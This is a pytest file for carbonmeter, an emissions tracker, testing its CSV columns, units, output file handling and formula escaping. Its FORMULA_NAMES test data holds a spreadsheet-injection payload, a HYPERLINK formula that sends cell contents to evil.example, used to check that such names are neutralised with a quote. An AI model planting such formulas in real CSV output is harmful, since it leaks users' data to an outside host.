"""What a row says and where it goes: every column a getter typed in the stub, the header
CodeCarbon's extended in order, units and identity, the output file (update mode, a foreign
file set aside, its name).

Figures are exact to the µJ (see `helpers.to_uj`).
"""

from __future__ import annotations

import csv
import logging
import math
import platform
import re
import shutil
import time
import uuid
from pathlib import Path

import pytest
from fixtures.powercap import FakePowercap
from helpers import CODECARBON_CSV, carbonmeter_messages, make_tracker, read_csv, to_uj

import carbonmeter
from carbonmeter import CSV_COLUMNS

pytestmark = pytest.mark.usefixtures("isolated")


def test_every_column_is_a_getter_and_typed_in_the_stub() -> None:
    # The row struct drives the header and the getters; the stub is hand-written, so it is
    # checked here against the same list (stubtest checks the getters' existence both ways).
    stub = (Path(carbonmeter.__file__).parent / "_core.pyi").read_text(encoding="utf-8")
    body = stub.split("class EmissionsData:", 1)[1].split("\nclass ", 1)[0]
    typed = re.findall(r"@property\n    def (\w+)\(self\)", body)
    # Besides the columns: `values` and the per-unit figures computed from a row's columns.
    derived = {"values", "joules_per_sample", "joules_per_token", "joules_per_request"}
    derived.add("co2_g_per_1k_tokens")
    properties = [name for name in typed if name not in derived]
    assert sorted(properties) == sorted(CSV_COLUMNS)
    assert len(properties) == len(set(properties))
    missing = [column for column in CSV_COLUMNS if not hasattr(carbonmeter.EmissionsData, column)]
    assert not missing


def test_csv_header_extends_codecarbons_in_order(server: FakePowercap, tmp_path: Path) -> None:
    with CODECARBON_CSV.open(encoding="utf-8", newline="") as file:
        codecarbon_header = next(csv.reader(file))
    assert len(codecarbon_header) == 38
    assert CSV_COLUMNS[: len(codecarbon_header)] == codecarbon_header
    assert len(CSV_COLUMNS) == len(set(CSV_COLUMNS))

    tracker = make_tracker(server, save_to_file=True, output_dir=str(tmp_path))
    tracker.start()
    server.advance("intel-rapl:0", 1_234_567)
    tracker.stop()
    header, rows = read_csv(tmp_path / "emissions.csv")
    assert header == CSV_COLUMNS
    data = tracker.final_emissions_data
    assert data is not None
    as_dict = data.as_dict()
    assert list(as_dict) == CSV_COLUMNS
    [row] = rows
    for column, value in as_dict.items():
        assert getattr(data, column) == value
        if value is None:
            assert row[column] == "", column
        elif isinstance(value, float):
            assert float(row[column]) == value, column  # floats round-trip through the file
        else:
            assert row[column] == str(value), column


def test_row_units_and_identity(server: FakePowercap) -> None:
    tracker = make_tracker(server, wue=1.8)
    t0 = time.perf_counter()
    tracker.start()
    t1 = time.perf_counter()
    server.advance("intel-rapl:0", 36_000_000)
    server.advance("intel-rapl:0:2", 3_600_000)
    time.sleep(0.05)
    t2 = time.perf_counter()
    emissions = tracker.stop()
    t3 = time.perf_counter()

    data = tracker.final_emissions_data
    assert data is not None
    assert t2 - t1 - 1e-6 <= data.duration <= t3 - t0 + 1e-6
    assert data.intensity_method == "table"
    assert 0 < data.intensity_g_per_kwh < 2000
    assert math.isclose(
        data.emissions, data.energy_consumed * data.intensity_g_per_kwh / 1000, rel_tol=1e-12
    )
    assert emissions == data.emissions
    assert math.isclose(data.emissions_rate, data.emissions / data.duration, rel_tol=1e-12)
    assert math.isclose(data.cpu_power, 36.0 / data.duration, rel_tol=1e-12)  # W = J / s
    assert math.isclose(data.ram_power, 3.6 / data.duration, rel_tol=1e-12)
    assert math.isclose(data.water_consumed, data.energy_consumed * 1.8, rel_tol=1e-12)
    assert (data.country_name, data.country_iso_code, data.on_cloud) == ("France", "FRA", "N")
    assert data.tracking_mode == "machine"
    assert uuid.UUID(data.run_id).version == 4
    assert data.experiment_id == "5b0fa12a-3dd7-45bb-9766-cc326314d9f1"
    assert data.project_name == "codecarbon"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", data.timestamp)
    assert data.codecarbon_version == ""
    assert data.carbonmeter_version == carbonmeter.__version__
    assert data.python_version == platform.python_version()
    # Read from uname(2) now; Python's own answer differs only where `uname -p` names the
    # processor (Fedora, RHEL), which the core leaves out.
    processor = platform.processor()
    expected_os = platform.platform()
    if processor and processor != "unknown":
        expected_os = expected_os.replace(f"-{processor}-with", "-with", 1)
    assert data.os == expected_os
    assert data.cpu_count >= 1
    assert data.ram_total_size > 0


def test_forced_intensity_is_used_and_labelled(server: FakePowercap) -> None:
    tracker = make_tracker(server, force_carbon_intensity_g_co2e_kwh=250)
    tracker.start()
    server.advance("intel-rapl:0", 72_000_000)
    tracker.stop()
    data = tracker.final_emissions_data
    assert data is not None
    assert (data.intensity_method, data.intensity_g_per_kwh) == ("forced", 250.0)
    assert data.country_iso_code == "FRA"
    assert math.isclose(data.emissions, data.energy_consumed * 0.25, rel_tol=1e-12)


def test_on_csv_write_update_keeps_one_row_per_run(server: FakePowercap, tmp_path: Path) -> None:
    common = {"save_to_file": True, "output_dir": str(tmp_path), "on_csv_write": "update"}
    first = make_tracker(server, project_name="first", **common)
    first.start()
    server.advance("intel-rapl:0", 1_000_000)
    first.flush()
    first.flush()
    _, rows = read_csv(tmp_path / "emissions.csv")
    assert len(rows) == 1

    second = make_tracker(server, project_name="second", **common)
    second.start()
    second.stop()
    server.advance("intel-rapl:0", 2_000_000)
    first.stop()

    _, rows = read_csv(tmp_path / "emissions.csv")
    assert [row["project_name"] for row in rows] == ["first", "second"]
    assert to_uj(float(rows[0]["cpu_energy"])) == 3_000_000


def test_foreign_emissions_csv_is_set_aside_not_lost(
    server: FakePowercap, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    target = tmp_path / "emissions.csv"
    shutil.copyfile(CODECARBON_CSV, target)
    tracker = make_tracker(server, save_to_file=True, output_dir=str(tmp_path))
    tracker.start()
    tracker.stop()
    assert (tmp_path / "emissions.csv.bak").read_bytes() == CODECARBON_CSV.read_bytes()
    header, rows = read_csv(target)
    assert header == CSV_COLUMNS
    assert len(rows) == 1
    assert any("emissions.csv.bak" in m for m in carbonmeter_messages(caplog, logging.WARNING))


def test_output_file_name_is_used(server: FakePowercap, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    tracker = make_tracker(server, save_to_file=True, output_dir=str(out), output_file="run.csv")
    assert tracker.output_path == str(out / "run.csv")
    tracker.start()
    tracker.stop()
    assert [p.name for p in out.iterdir()] == ["run.csv"]
    assert make_tracker(server).output_path is None


# Names a spreadsheet would run as a formula, one per character that starts one; a name that
# already starts with `'` and one; and names that only contain those characters.
FORMULA_NAMES = {
    '=HYPERLINK("https://evil.example/?"&A2,"x")': '\'=HYPERLINK("https://evil.example/?"&A2,"x")',
    "+1": "'+1",
    "-baseline": "'-baseline",
    "@team/model": "'@team/model",
    "\t=1+1": "'\t=1+1",
    "'=already quoted": "''=already quoted",
    "resnet-50 = best": "resnet-50 = best",
    "it's": "it's",
}


@pytest.mark.parametrize("mode", ["append", "update"])
def test_a_name_that_starts_a_formula_is_written_with_a_quote_and_read_back(
    server: FakePowercap, tmp_path: Path, mode: str
) -> None:
    from carbonmeter.report.model import load

    for name in FORMULA_NAMES:
        tracker = make_tracker(
            server,
            save_to_file=True,
            output_dir=str(tmp_path),
            on_csv_write=mode,
            project_name=name,
            experiment_name=name,
        )
        tracker.start()
        with tracker.epoch(0, phase=name):
            server.advance("intel-rapl:0", 1_000_000)
        tracker.stop()
        # What Python is handed is the name as set; only the file's cell changes.
        data = tracker.final_emissions_data
        assert data is not None
        assert data.project_name == name
    rows = read_csv(tmp_path / "emissions.csv")[1]
    run_rows = [row for row in rows if not row["window"]]
    assert [row["project_name"] for row in run_rows] == list(FORMULA_NAMES.values())
    assert [row["experiment_name"] for row in run_rows] == list(FORMULA_NAMES.values())
    assert all(not row["emissions"].startswith("'") for row in rows)
    # What docs/columns.md ("Formulas") tells pandas users to do gives every name back.
    unprefix = f"^'(?='*[{re.escape(carbonmeter.FORMULA_STARTS)}])"
    assert [re.sub(unprefix, "", row["project_name"]) for row in run_rows] == list(FORMULA_NAMES)
    # The report takes the quote off: every name reads back as it was set.
    report = load([tmp_path / "emissions.csv"])
    assert sorted(run.project for run in report.runs) == sorted(FORMULA_NAMES)
    assert sorted(run.experiment_name for run in report.runs) == sorted(FORMULA_NAMES)
    if mode == "append":  # update mode keeps the run's row alone
        epoch_rows = [row for row in rows if row["window"]]
        assert [row["phase"] for row in epoch_rows] == list(FORMULA_NAMES.values())
        assert sorted(run.epochs[0].phase for run in report.runs) == sorted(FORMULA_NAMES)
